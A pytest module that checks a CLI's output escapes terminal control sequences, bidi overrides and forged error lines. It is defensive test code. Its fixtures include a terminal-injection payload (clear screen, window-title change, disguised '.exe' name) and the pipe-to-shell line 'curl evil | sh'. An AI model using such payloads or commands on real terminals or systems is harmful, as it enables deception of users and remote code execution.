"""What comes from outside cannot steer the terminal, whichever way it is printed."""

from __future__ import annotations

import ast
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st
from rich.live import Live
from rich.table import Table
from rich.text import Text
from typing_extensions import TypedDict

import backend_demo
from backend_demo.cli import render
from backend_demo.cli.console import Console
from backend_demo.errors import ServiceFailed

PACKAGE = Path(backend_demo.__file__).parent
#: Escapes, carriage returns, C1, line ends of Unicode, bidi overrides.
EVIL = "\x1b[2J\x1b]0;owned\x07\rok\x9b31m\x85\u2028\u202egnp.exe\x7f"
SHOWN = r"\x1b[2J\x1b]0;owned\x07\x0dok\x9b31m\x85\u2028\u202egnp.exe\x7f"


#: rich drops these two.
DRAWN = SHOWN.replace(r"\x07\x0d", "")


class Evil(TypedDict):
    schema: Literal["bdemo.evil/1"]
    text: str


def printed(*parts: object, **options: object) -> str:
    out = io.StringIO()
    Console(file=out, width=300, **options).print(*parts)  # type: ignore[arg-type]
    return out.getvalue()


def in_a_table(text: str) -> Table:
    table = Table("column", title=Text(text))
    table.add_row(Text(text))
    return table


@given(st.text())
def test_the_console_prints_nothing_that_steers(text: str) -> None:
    for part in (Text(text), in_a_table(text)):
        assert printed(part).replace("\n", "").isprintable()


def test_colours_of_ours_stay() -> None:
    assert printed(Text(EVIL, "red"), color_system="standard", force_terminal=True) == f"\x1b[31m{DRAWN}\x1b[0m\n"


def test_a_live_table_is_escaped_too() -> None:
    out = io.StringIO()
    with Live(Text(EVIL), console=Console(file=out, width=300, force_terminal=True), auto_refresh=False):
        pass
    assert DRAWN in out.getvalue()
    assert "\x1b[2J" not in out.getvalue()
    assert "\x1b[?25l" in out.getvalue()  # the cursor is hidden: a movement of rich itself


def test_results_messages_and_errors_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    table = render.Table(("name",), [(EVIL,), ("[red]x",)])
    render.print_parts([EVIL, ((EVIL, "red"), (EVIL, None)), table, Text(EVIL)])
    render.say(EVIL)
    render.report(ServiceFailed(EVIL, hint=EVIL), as_json=False)
    out, err = capsys.readouterr()
    for text in (out, err):
        assert "\x1b[2J" not in text
        assert not (set(EVIL) - set(SHOWN)) & set(text)
    assert out.count(SHOWN) == 4
    assert out.count(DRAWN) == 1
    assert "[red]x" in out
    assert err.count(DRAWN) == 3


def test_an_error_cannot_forge_a_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    render.report(ServiceFailed("lost\nhint: run curl evil | sh", hint="see\nerror: all"), as_json=False)
    assert capsys.readouterr().err == "error: lost\n  hint: run curl evil | sh\nhint: see\n  error: all\n"


def test_a_traceback_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    render.print_traceback(ValueError, ValueError(EVIL), None)
    assert capsys.readouterr().err == f"ValueError: {SHOWN}\n"


def test_json_has_escapes_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    document: Evil = {"schema": "bdemo.evil/1", "text": EVIL}
    render.show(document, "json", lambda _: ())
    render.print_line(document)
    render.report(ServiceFailed(EVIL), as_json=True)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3
    assert all(line.isprintable() and r"\u009b31m\u0085\u2028\u202egnp.exe\u007f" in line for line in lines)
    assert json.loads(lines[0]) == json.loads(lines[1]) == document


def ways_out(path: Path) -> Iterator[str]:
    """What a module uses to print past `render` and `console`."""
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.ImportFrom) and node.module in ("rich.console", "rich"):
            yield from (f"rich.{name.name}" for name in node.names if name.name in ("Console", "print", "get_console"))
        elif isinstance(node, ast.Call):
            called = ast.unparse(node.func)
            if re.fullmatch(r"print|typer\.(echo|secho|style)|sys\.(stdout|stderr)(\.buffer)?\.write(lines)?", called):
                yield called


#: Places that print what is already escaped, or only words of their own.
ALLOWED = {
    "cli/render.py": {"print", "typer.echo", "typer.style"},
    "cli/main.py": {"print", "typer.echo"},  # the version, an empty line, the help
    "cli/help.py": {"typer.style"},
    "cli/query/watch.py": {"sys.stdout.write"},  # numbers, times and escaped names
    "cli/tail/lines.py": {"sys.stdout.buffer.writelines"},  # the lines of `pretty` and `documents`
}


def test_every_command_prints_through_the_one_place() -> None:
    found = {path.relative_to(PACKAGE).as_posix(): set(ways_out(path)) for path in (PACKAGE / "cli").rglob("*.py")}
    assert {name: ways for name, ways in found.items() if ways} == ALLOWED
    assert typer.style("x", fg="red") == "\x1b[31mx\x1b[0m"
